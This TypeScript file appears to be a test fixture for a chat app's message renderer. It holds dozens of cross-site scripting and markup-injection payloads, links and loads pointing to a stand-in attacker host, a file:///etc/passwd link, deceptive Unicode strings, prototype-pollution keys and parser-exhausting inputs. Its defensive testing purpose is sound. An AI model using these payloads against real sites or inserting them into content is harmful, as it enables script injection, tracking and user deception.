/**
 * What somebody could put into a message, a name, a path or a piece of code to make it more than text. `struck(…)` is
 * what they would run; the control shows that a page without care does run it.
 */

export interface Attack {
  readonly name: string;
  readonly payload: string;
  /**
   * What a careless page lets it do: `runs` a script, or one once its link is clicked; loads from elsewhere (`loads`);
   * leads away (`leads`); or puts elements or attributes where only text should be (`marks`).
   */
  readonly control: 'runs' | 'runs-clicked' | 'loads' | 'leads' | 'marks';
}

const far = 'http://attack.invalid';

const running: Record<string, string> = {
  'image with a handler': '<img src=x onerror="struck(1)">',
  'image without quotes': '<img src=x onerror=struck(1)//',
  'handler after a slash': '<img/src=x: onerror=struck(1)>',
  'handler after a new line': '<img\nsrc=x\nonerror\n=\nstruck(1)>',
  'svg animation': '<svg><animate onbegin="struck(1)" attributeName="x" dur="1s"></animate></svg>',
  'details that opens': '<details open ontoggle="struck(1)">x</details>',
  'video source': '<video><source onerror="struck(1)" src="x:"></video>',
  audio: '<audio src="x:" onerror="struck(1)"></audio>',
  autofocus: '<input autofocus onfocus="struck(1)">',
  'textarea that takes the focus': '<textarea autofocus onfocus="struck(1)"></textarea>',
  'frame with a script address': '<iframe src="javascript:parent.struck(1)"></iframe>',
  'frame with a document': '<iframe srcdoc="<script>parent.struck(1)</script>"></iframe>',
  object: '<object data="javascript:struck(1)" onerror="struck(1)"></object>',
  'style that loads': '<style onload="struck(1)">x{}</style>',
  'style with an import': '<link rel=stylesheet href="data:text/css," onload="struck(1)">',
  body: '<svg><style><img src=x onerror="struck(1)"></style></svg>',
  'mutation by math and table':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=struck(1)&gt;" src=x onerror=struck(1)>',
  'mutation by svg and style': '<svg></p><style><a id="</style><img src=x onerror=struck(1)>">',
  'mutation by noscript': '<noscript><p title="</noscript><img src=x onerror=struck(1)>"></noscript>',
  'mutation by comment': '<!--><img src=x onerror=struck(1)>-->',
  'mutation by a second body': '</div></body><img src=x onerror=struck(1)>',
  'mutation by select':
    '<select><template><img src=x onerror=struck(1)></template></select><img src=x onerror=struck(1)>',
  'mutation by annotation-xml':
    '<math><annotation-xml encoding="text/html"><img src=x onerror="struck(1)"></annotation-xml></math>',
  'mutation by foreignObject': '<svg><foreignObject><img src=x onerror="struck(1)"></foreignObject></svg>',
  'plain text that is none': '<xmp></xmp><img src=x onerror=struck(1)>',
  'breaking out of an attribute': '"><img src=x onerror=struck(1)>',
  'breaking out of an attribute with a handler': '" autofocus tabindex=0 onfocus="struck(1)" x="',
  'breaking out of code':
    '```\n</code></pre><img src=x onerror=struck(1)>\n```\n<img src=x onerror=struck(1)>',
  'breaking out of a language': '```js"><img src=x onerror=struck(1)>\nx\n```\n<img src=x onerror=struck(1)>',
  'markup in a link text': '[<img src=x onerror=struck(1)>](https://example.org)',
  'markup in a link title':
    '[x](https://example.org "\\"><img src=x onerror=struck(1)>") <img src=x onerror=struck(1)>',
  'markup in an image text': '![x"><img src=x onerror=struck(1)>](y) <img src=x onerror=struck(1)>',
  'markup in a table': '| a |\n|---|\n| <img src=x onerror=struck(1)> |',
  'markup in a reference':
    '[x]: https://example.org "<img src=x onerror=struck(1)>"\n[x] <img src=x onerror=struck(1)>',
  'entities that become markup': '&lt;img src=x onerror=struck(1)&gt; <img src=x onerror=&#115;truck(1)>',
  'a null in the name': '<img\u0000 src=x onerror=struck(1)><img src=x onerror=struck(1)>',
  'a vertical tab': '<img\u000bsrc=x onerror=struck(1)><img\u000csrc=x onerror=struck(1)>',
};

const clicked: Record<string, string> = {
  'javascript link': '[click](javascript:struck(1))',
  'javascript link in HTML': '<a href="javascript:struck(1)">click</a>',
  'javascript link with entities': '<a href="&#106;avascript&colon;struck(1)">click</a>',
  'javascript link with a tab': '<a href="java\tscript:struck(1)">click</a>',
  'javascript link with a control character': '<a href="\u0001javascript:struck(1)">click</a>',
  'javascript link in capitals': '[click](JaVaScRiPt:struck(1))',
  'javascript link in angle brackets': '[click](<javascript:struck(1)>)',
  'javascript link by entity in Markdown': '[click](&#x6A;avascript:struck(1))',
  'javascript link by reference': '[click][x]\n\n[x]: javascript:struck(1)',
  'javascript autolink': '<javascript:struck(1)>',
  'javascript link that looks like another':
    '[https://example.org](javascript:struck(1)//https://example.org)',
  'svg link':
    '<svg><a xlink:href="javascript:struck(1)" href="javascript:struck(1)"><text y="20">click</text></a></svg>',
  'button of a form': '<form action="javascript:struck(1)"><button class=a>click</button></form>',
  'form of a button': '<form id=f></form><button form=f formaction="javascript:struck(1)">click</button>',
};

const loading: Record<string, string> = {
  'image from elsewhere': `![x](${far}/pixel.png)`,
  'image in HTML': `<img src="${far}/pixel.png">`,
  'image set': `<img srcset="${far}/pixel.png 1x">`,
  picture: `<picture><source srcset="${far}/pixel.png"><img></picture>`,
  'style attribute': `<p style="background:url(${far}/pixel.png)">x</p>`,
  'style element': `<style>@import "${far}/x.css";</style>`,
  stylesheet: `<link rel="stylesheet" href="${far}/x.css">`,
  frame: `<iframe src="${far}/"></iframe>`,
  'object from elsewhere': `<object data="${far}/x"></object>`,
  'svg image': `<svg><image href="${far}/pixel.png" width="9" height="9"></image></svg>`,
  'svg use': `<svg><filter><feImage href="${far}/x.svg"></feImage></filter><image href="${far}/y"></image></svg>`,
  'video poster': `<video poster="${far}/pixel.png"></video>`,
  'input image': `<input type="image" src="${far}/pixel.png">`,
  'table background': `<table background="${far}/pixel.png"><tr><td>x</td></tr></table>`,
  'protocol-relative image': '<img src="//attack.invalid/pixel.png">',
};

const leading: Record<string, string> = {
  'meta refresh': `<meta http-equiv="refresh" content="0;url=${far}">`,
  'link away': `[click](${far}/)`,
  'link away in HTML': `<a href="${far}/">click</a>`,
  'link out of the frame': `<a href="${far}/" target="_top">click</a>`,
  'form that submits': `<form action="${far}/"><button>click</button></form>`,
  'relative link': '[click](/elsewhere)',
  area: `<a href="${far}/" ping="${far}/ping">click</a>`,
  base: `<base href="${far}/"><a href="x">click</a>`,
};

/** Some of these ran in browsers of the past. */
const marking: Record<string, string> = {
  'svg that loads': '<svg onload="struck(1)"></svg>',
  'svg that loads, self-closed': '<svg/onload=struck(1)/>',
  embed: '<embed src="javascript:struck(1)" onload="struck(1)" onerror="struck(1)">',
  marquee: '<marquee onstart="struck(1)">x</marquee>',
  'mutation by form and math':
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="struck(1)">',
  'math link':
    '<math><mrow href="javascript:struck(1)"><a href="javascript:struck(1)">click</a></mrow></math>',
  'data link': '[click](data:text/html,<script>struck(1)</script>)',
  'vbscript link': '[click](vbscript:struck(1))',
  'file link': '[click](file:///etc/passwd)',
  'command link': '[click](command:workbench.action.quit)',
  'vscode link': '[click](vscode://x/y)',
  'ftp link': '[click](ftp://example.org/)',
  'blob link': '[click](blob:http://x/y)',
  'link with credentials': '[click](https://bank.example@attack.invalid/)',
  'script element': '<script>struck(1)</script>',
  'script in svg': '<svg><script>struck(1)</script></svg>',
  template: '<template><script>struck(1)</script></template>',
  noscript: '<noscript><b>x</b></noscript>',
  input: '<input value="password">',
  button: '<button>Sign in</button>',
  'custom element': '<vscode-button onclick="struck(1)">x</vscode-button>',
  'id of ours': '<p id="crypt2chat">x</p>',
  'name that clobbers': '<a id=attributes name=attributes><a id=attributes name=length>',
  'class of ours': '<p class="fail">A message from bob could not be opened.</p>',
  'style that covers': '<p style="position:fixed;inset:0;background:red">x</p>',
  dialog: '<dialog open>x</dialog>',
  'shadow root': '<p><template shadowrootmode="open"><slot></slot></template></p>',
  heading: '# not a heading of the page',
  checkbox: '- [x] done',
  contenteditable: '<p contenteditable>x</p>',
  'aria that lies': '<p role="alert" aria-label="bob is verified">x</p>',
  'is attribute': '<p is="x-y" slot="label" part="root">x</p>',
  'nonce hunter': '<link rel=x nonce><p nonce="x">x</p>',
};

function all(group: Record<string, string>, control: Attack['control']): Attack[] {
  return Object.entries(group).map(([name, payload]) => ({ name, payload, control }));
}

export const attacks: readonly Attack[] = [
  ...all(running, 'runs'),
  ...all(clicked, 'runs-clicked'),
  ...all(loading, 'loads'),
  ...all(leading, 'leads'),
  ...all(marking, 'marks'),
];

/** Characters that change what is seen. */
export const deceptions: readonly string[] = [
  'invoice\u202egnp.exe',
  '\u2066hidden\u2069\u202dx',
  'al\u200bice',
  'zero\u0000and\u001b[31mred\u0007',
  'line\u2028one\u2029two\r\nthree',
  '\ufeffbom',
  'tag\u{e0041}\u{e007f}',
  '\u00adsoft',
];

/** Names that mean something to a careless object. */
export const pollutions: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'then',
];

const length = 16 * 1024;

function filled(piece: string): string {
  return piece.repeat(Math.ceil(length / piece.length)).slice(0, length);
}

/** Texts of the greatest length that a message may have, made to keep a parser busy. */
export const exhausting: Readonly<Record<string, string>> = {
  ...Object.fromEntries(
    [
      ...[
        '*é_',
        'a**b',
        '*a **a ',
        '**a ',
        '_a __a ',
        '~~a',
        '`a',
        '``a ',
        '!',
        '[',
        '![',
        '[](',
        '[a](',
        '[a](()',
        '[`',
        ']((',
      ],
      ...[
        '<',
        '<<',
        '<a href="',
        '<!--',
        '&',
        '&a;',
        '\\[',
        '\\',
        'https://a(',
        'www.a@',
        'a@b.',
        '|',
        '|a|\n',
        '|a|\n|-|\n',
      ],
      ...[
        '> ',
        '>',
        '- ',
        '+ ',
        '1. ',
        '1. > ',
        '>- ',
        '- a\n',
        '- -\n',
        '#',
        '# a\n',
        '=\n',
        'a\n=\n',
        '```\n',
        '~~~a\n',
      ],
      ...[
        ' ',
        '\t',
        '\n',
        ' \n',
        '\u00a0',
        '[a]: ',
        '[a]: b\n',
        '[a]: x "',
        '- [x] a\n',
        '\u202e',
        '{{',
        '$$',
        '\'"',
      ],
    ].map((piece) => [JSON.stringify(piece), filled(piece)]),
  ),
  'nested emphasis': `${'*a '.repeat(2700)}${'a* '.repeat(2700)}`,
  'nested links': `${'['.repeat(5000)}a${'](b)'.repeat(2500)}`,
  'nested lists': filled(Array.from({ length: 150 }, (_, i) => `${' '.repeat(i)}- a\n`).join('')),
  'nested quotes': filled(Array.from({ length: 150 }, (_, i) => `${'>'.repeat(i)} a\n`).join('')),
  'a wide table': `|${'a|'.repeat(800)}\n|${'-|'.repeat(800)}\n${`|${'a|'.repeat(800)}\n`.repeat(7)}`,
  'blanks before the end': `a${' '.repeat(length - 2)}b`,
};
